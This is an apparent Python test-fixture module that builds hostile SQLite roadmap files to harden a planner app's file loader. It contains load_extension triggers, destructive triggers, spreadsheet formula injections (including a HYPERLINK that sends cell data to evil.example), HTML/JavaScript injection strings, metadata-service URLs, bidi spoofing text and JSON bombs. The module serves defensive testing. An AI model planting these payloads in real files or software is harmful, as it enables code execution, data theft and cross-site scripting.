"""Hostile but valid files, built with sqlite3 directly (issue 8.3).

Each builder writes one file. Most carry our application_id and user_version 2, so that they
pass the header check and exercise the deeper checks (schema inspection, trusted_schema=OFF,
plain-text display, tolerant reading of odd values).
"""

from __future__ import annotations

import datetime as dt
import sqlite3
from collections.abc import Callable
from pathlib import Path

from planner import schema
from planner.store import Roadmap

TABLES = ("roadmap", "plans", "lanes", "objectives", "cards", "milestones", "dependencies", "views")

# Titles that have crashed, hung or misled rich-text renderers and spreadsheets.
HOSTILE_TITLES = [
    '<img src="/dev/zero">',
    '<img src="http://169.254.169.254/latest/meta-data/">',
    "<table>" * 3000 + "deep" + "</table>" * 3000,
    "<table><tr><td>" * 20 + "nested",
    '<a href="javascript:alert(1)">click me</a>',
    "<script>alert('x')</script><b>bold</b><i>it</i>",
    '<span style="font-size:900pt">huge</span>',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "right-to-left \u202egnp.exe\u202c override",
    "zero\u200bwidth\u200d\u2060joiners\ufeff",
    "\u2066isolate\u2069 and \u061c marks \u200f",
    "line one\nline two\r\nline three\u2028\u2029",
    "tab\tand NUL\x00 inside",
    "emoji 🚀🧪 and combining e\u0301\u0301\u0301",
    "&lt;escaped&gt; &amp; entities &#x3C;b&#x3E;",
    "file:///etc/passwd",
]


def _ours(path: Path, title: str = "Hostile") -> sqlite3.Connection:
    """A valid, empty roadmap of ours, returned as a raw connection to tamper with."""
    Roadmap.create(path, title=title).close()
    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute("PRAGMA journal_mode=DELETE")
    return conn


def _card(conn: sqlite3.Connection, cid: int, title: object, lane: object = 1,
          start: object = "2026-03-02", end: object = "2026-04-03",
          **cols: object) -> None:  # fmt: skip
    names = ["plan_id", "id", "title", "lane_id", "start_date", "end_date", *cols]
    values = [1, cid, title, lane, start, end, *cols.values()]
    conn.execute(f"INSERT INTO cards ({', '.join(names)}) VALUES"
                 f" ({', '.join('?' * len(names))})", values)  # fmt: skip


def _with_lane(path: Path) -> sqlite3.Connection:
    conn = _ours(path)
    conn.execute("INSERT INTO lanes (plan_id, id, name) VALUES (1, 1, 'Lane')")
    return conn


def _finish(conn: sqlite3.Connection, version: int = schema.SCHEMA_VERSION) -> None:
    conn.execute(f"PRAGMA application_id={schema.APPLICATION_ID}")
    conn.execute(f"PRAGMA user_version={version}")
    conn.close()


Builder = Callable[[Path], None]
BUILDERS: dict[str, Builder] = {}


def builder(name: str) -> Callable[[Builder], Builder]:
    def register(fn: Builder) -> Builder:
        BUILDERS[name] = fn
        return fn

    return register


def _shadow(table: str) -> Builder:
    def build(path: Path) -> None:
        conn = _with_lane(path)
        conn.execute("PRAGMA foreign_keys=OFF")
        conn.execute("PRAGMA legacy_alter_table=ON")
        conn.execute(f"ALTER TABLE {table} RENAME TO {table}_real")
        conn.execute(f"CREATE VIEW {table} AS SELECT *, load_extension('/tmp/evil.so') AS x"
                     f" FROM {table}_real")  # fmt: skip
        _finish(conn)

    return build


for _table in TABLES:
    BUILDERS[f"view shadowing {_table}"] = _shadow(_table)


@builder("trigger calling load_extension")
def _trigger_fn(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE TRIGGER t AFTER UPDATE ON cards BEGIN"
                 " SELECT load_extension('/tmp/evil.so'); END")  # fmt: skip
    _finish(conn)


@builder("trigger writing elsewhere")
def _trigger_write(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE TRIGGER t AFTER INSERT ON cards BEGIN"
                 " DELETE FROM lanes; UPDATE roadmap SET title = 'owned'; END")  # fmt: skip
    _finish(conn)


@builder("trigger on the settings row")
def _trigger_read(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE TRIGGER t BEFORE UPDATE ON roadmap BEGIN"
                 " SELECT randomblob(1000000000); END")  # fmt: skip
    _finish(conn)


@builder("view attaching a path")
def _attach(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE VIEW attach_me AS SELECT * FROM pragma_database_list"
                 " WHERE file = '/etc/passwd'")  # fmt: skip
    conn.execute("CREATE TRIGGER a AFTER INSERT ON cards BEGIN"
                 " INSERT INTO lanes SELECT 1, 99, file, '#000', 0, 0 FROM pragma_database_list;"
                 " END")  # fmt: skip
    _finish(conn)


@builder("recursive view")
def _recursive(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE VIEW forever AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL"
                 " SELECT i + 1 FROM n) SELECT i FROM n")  # fmt: skip
    _finish(conn)


@builder("table we did not create")
def _extra_table(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE TABLE payload (x BLOB)")
    _finish(conn)


@builder("virtual table")
def _virtual(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("CREATE VIRTUAL TABLE search USING fts5(body)")
    _finish(conn)


@builder("10 MB title and description")
def _big_text(path: Path) -> None:
    conn = _with_lane(path)
    _card(conn, 1, "T" * 10_000_000, description="D " * 5_000_000)
    _finish(conn)


@builder("invalid UTF-8")
def _bad_utf8(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("INSERT INTO cards (plan_id, id, title, lane_id, description, owner, tags)"
                 " VALUES (1, 1, CAST(x'c328fffe80' AS TEXT), 1, CAST(x'eda080' AS TEXT),"
                 " CAST(x'f8888080' AS TEXT), CAST(x'5b22ff225d' AS TEXT))")  # fmt: skip
    conn.execute("UPDATE lanes SET name = CAST(x'80818283' AS TEXT)")
    conn.execute("UPDATE roadmap SET title = CAST(x'e282' AS TEXT)")
    _finish(conn)


@builder("bidi overrides and zero-width characters")
def _bidi(path: Path) -> None:
    conn = _with_lane(path)
    for i, title in enumerate(HOSTILE_TITLES[12:16], start=1):
        _card(conn, i, title)
    conn.execute("UPDATE lanes SET name = '\u202eenal\u200b'")
    _finish(conn)


@builder("HTML and image tags")
def _html(path: Path) -> None:
    conn = _with_lane(path)
    for i, title in enumerate(HOSTILE_TITLES[:7], start=1):
        _card(conn, i, title, description=title, owner=title, link=title)
    conn.execute("UPDATE lanes SET name = '<img src=\"/dev/zero\">'")
    conn.execute("UPDATE roadmap SET title = '<b>bold</b><img src=\"/dev/zero\">'")
    conn.execute("INSERT INTO milestones (plan_id, id, title, date) VALUES"
                 " (1, 1, '<img src=\"/dev/zero\">', '2026-05-01')")  # fmt: skip
    _finish(conn)


@builder("3,000 nested tables")
def _nested(path: Path) -> None:
    conn = _with_lane(path)
    _card(conn, 1, HOSTILE_TITLES[2], description=HOSTILE_TITLES[2])
    _finish(conn)


@builder("spreadsheet formula payloads")
def _formulas(path: Path) -> None:
    conn = _with_lane(path)
    for i, title in enumerate(HOSTILE_TITLES[7:12], start=1):
        _card(conn, i, title, owner=title, tags=f'["{i}", "=1+1"]')
    _finish(conn)


@builder("100,000 cards")
def _many(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("BEGIN")
    conn.executemany(
        "INSERT INTO cards (plan_id, id, title, lane_id, start_date, end_date) VALUES"
        " (1, ?, ?, 1, ?, ?)",
        [(i, f"card {i}", (dt.date(2026, 1, 1) + dt.timedelta(days=i % 700)).isoformat(),
          (dt.date(2026, 1, 15) + dt.timedelta(days=i % 700)).isoformat())
         for i in range(1, 100_001)],
    )  # fmt: skip
    conn.execute("COMMIT")
    _finish(conn)


@builder("dates in year 1 and 9999")
def _dates(path: Path) -> None:
    conn = _with_lane(path)
    _card(conn, 1, "from the year 1", start="0001-01-01", end="0001-01-02")
    _card(conn, 2, "to the year 9999", start="9999-12-30", end="9999-12-31")
    _card(conn, 3, "whole era", start="0001-01-01", end="9999-12-31")
    _card(conn, 4, "impossible days", start="2026-02-30", end="0000-00-00")
    _card(conn, 5, "ends before it starts", start="2026-09-01", end="2026-01-01")
    conn.execute("INSERT INTO milestones (plan_id, id, title, date) VALUES"
                 " (1, 1, 'big bang', '0001-01-01'), (1, 2, 'heat death', '9999-12-31')")
    conn.execute("UPDATE roadmap SET horizon_start = '0001-01-01', horizon_end = '9999-12-31'")
    _finish(conn)


@builder("dependency cycle")
def _cycle(path: Path) -> None:
    conn = _with_lane(path)
    for i in range(1, 5):
        _card(conn, i, f"step {i}")
    conn.executemany("INSERT INTO dependencies (plan_id, before_id, after_id) VALUES (1, ?, ?)",
                     [(1, 2), (2, 3), (3, 4), (4, 1)])  # fmt: skip
    _finish(conn)


@builder("wrong application_id")
def _wrong_app(path: Path) -> None:
    conn = _with_lane(path)
    conn.close()
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA application_id=0x4D504B47")  # a GeoPackage's
    conn.close()


@builder("user_version 2^31-1")
def _future(path: Path) -> None:
    conn = _with_lane(path)
    _finish(conn, 2**31 - 1)


@builder("negative user_version")
def _negative(path: Path) -> None:
    conn = _with_lane(path)
    _finish(conn, -1)


@builder("values of the wrong type")
def _types(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("PRAGMA ignore_check_constraints=ON")
    _card(conn, 1, 12345, lane="not a lane", start=20260101, end=x_bytes(),
          estimate="many", reach=x_bytes(), internal=7, position="first", color=3.5)
    _card(conn, 2, x_bytes(), lane=None, start=None, end=None, criteria="{not json",
          tags="[[[[[[[[[[" * 10000)  # fmt: skip
    conn.execute("UPDATE roadmap SET week_start = 99, sprint_length = -5, now_weeks = 2e18")
    _finish(conn)


def x_bytes() -> bytes:
    return b"\x00\xff<img src=/dev/zero>"


@builder("broken references")
def _refs(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("PRAGMA foreign_keys=OFF")
    _card(conn, 1, "in a lane that is gone", lane=777, objective_id=888)
    conn.execute("INSERT INTO dependencies (plan_id, before_id, after_id) VALUES (1, 1, 999)")
    conn.execute("INSERT INTO milestones (plan_id, id, title, date, lane_id) VALUES"
                 " (1, 1, 'orphan', '2026-05-05', 555)")  # fmt: skip
    _finish(conn)


@builder("deeply nested JSON")
def _json(path: Path) -> None:
    conn = _with_lane(path)
    _card(conn, 1, "json bomb", criteria="[" * 200_000 + "]" * 200_000,
          tags="[" * 200_000 + "]" * 200_000)  # fmt: skip
    conn.execute("INSERT INTO views (id, name, settings) VALUES (1, 'deep', ?)",
                 ('{"a":' * 100_000 + "1" + "}" * 100_000,))  # fmt: skip
    _finish(conn)


@builder("10,000 saved views and 300 snapshots")
def _views(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("BEGIN")
    conn.executemany("INSERT INTO views (id, name, settings) VALUES (?, ?, ?)",
                     [(i, f"<b>view</b> {i}", '{"precision": "millennium", "lanes": "all"}')
                      for i in range(1, 10_001)])  # fmt: skip
    conn.executemany("INSERT INTO plans (id, kind, name, created) VALUES (?, 'snapshot', ?, 'x')",
                     [(i, f"snap {i}") for i in range(2, 302)])  # fmt: skip
    conn.execute("COMMIT")
    _finish(conn)


@builder("hostile colours and links")
def _colours(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("UPDATE lanes SET color = 'red; background-image: url(http://evil.example/)'")
    _card(conn, 1, "link", color="url(http://evil.example/x.png)",
          link="http://169.254.169.254/latest/meta-data/")  # fmt: skip
    _card(conn, 2, "js", color="#zzzzzz", link="javascript:alert(document.cookie)")
    _card(conn, 3, "file", color="", link="file:///dev/zero")
    _finish(conn)


@builder("huge numbers")
def _numbers(path: Path) -> None:
    conn = _with_lane(path)
    _card(conn, 1, "big", estimate=1e308, reach=9e999, impact=-9e999, confidence=1e-320,
          effort=0.0, position=2**63 - 1)  # fmt: skip
    _card(conn, 2, "small", position=-(2**63), estimate=-1)
    conn.execute("INSERT INTO objectives (plan_id, id, name, baseline, target, current)"
                 " VALUES (1, 1, 'inf', 9e999, -9e999, 1e308)")  # fmt: skip
    _finish(conn)


@builder("thousand-line lane names")
def _lines(path: Path) -> None:
    conn = _ours(path)
    conn.execute("BEGIN")
    conn.executemany("INSERT INTO lanes (plan_id, id, name, position) VALUES (1, ?, ?, ?)",
                     [(i, "line\n" * 1000, i) for i in range(1, 201)])  # fmt: skip
    conn.execute("COMMIT")
    _finish(conn)


@builder("no settings row")
def _no_row(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("DELETE FROM roadmap")
    _finish(conn)


@builder("no plan")
def _no_plan(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("PRAGMA foreign_keys=OFF")
    conn.execute("DELETE FROM plans")
    _finish(conn)


@builder("missing column")
def _missing_column(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("ALTER TABLE cards DROP COLUMN measure")
    _finish(conn)


@builder("a table dropped")
def _dropped(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("DROP TABLE views")
    _finish(conn)


@builder("WAL mode flag")
def _wal(path: Path) -> None:
    conn = _with_lane(path)
    _card(conn, 1, "in a WAL file")
    conn.execute("PRAGMA journal_mode=WAL")
    _finish(conn)


@builder("64 KB pages and a free list")
def _pages(path: Path) -> None:
    conn = sqlite3.connect(path, isolation_level=None)
    conn.execute("PRAGMA page_size=65536")
    conn.execute("PRAGMA journal_mode=DELETE")
    conn.execute(f"PRAGMA application_id={schema.APPLICATION_ID}")
    for stmt in schema.create_statements():
        conn.execute(stmt)
    conn.execute("INSERT INTO roadmap (id, title, created, modified) VALUES (1, 't', 'x', 'x')")
    conn.execute("INSERT INTO plans (id, kind, name, created) VALUES (1, 'plan', 'Plan', 'x')")
    conn.execute("INSERT INTO lanes (plan_id, id, name) VALUES (1, 1, 'Lane')")
    conn.execute("BEGIN")
    for i in range(1, 500):
        _card(conn, i, "x" * 1000)
    conn.execute("COMMIT")
    conn.execute("DELETE FROM cards WHERE id > 10")
    _finish(conn)


@builder("plain SQLite database")
def _plain(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE cards (title TEXT)")
    conn.close()


@builder("empty file")
def _empty(path: Path) -> None:
    path.write_bytes(b"")


@builder("text file named .roadmap")
def _text(path: Path) -> None:
    path.write_text("SQLite format 3 — not really\n" * 10)


@builder("an objective and card in a snapshot only")
def _snapshot_only(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("INSERT INTO plans (id, kind, name, created) VALUES (2, 'snapshot', 'old', 'x')")
    conn.execute("INSERT INTO lanes (plan_id, id, name) VALUES (2, 1, '<img src=\"/dev/zero\">')")
    conn.execute("INSERT INTO cards (plan_id, id, title, lane_id) VALUES (2, 1, 'ghost', 1)")
    _finish(conn)


@builder("scenario that claims to be the plan")
def _kinds(path: Path) -> None:
    conn = _with_lane(path)
    conn.execute("PRAGMA ignore_check_constraints=ON")
    conn.execute("INSERT INTO plans (id, kind, name, created, source_id) VALUES"
                 " (2, 'plan', 'second plan', 'x', 2), (3, 'weird', 'odd', 'x', 99)")  # fmt: skip
    _finish(conn)
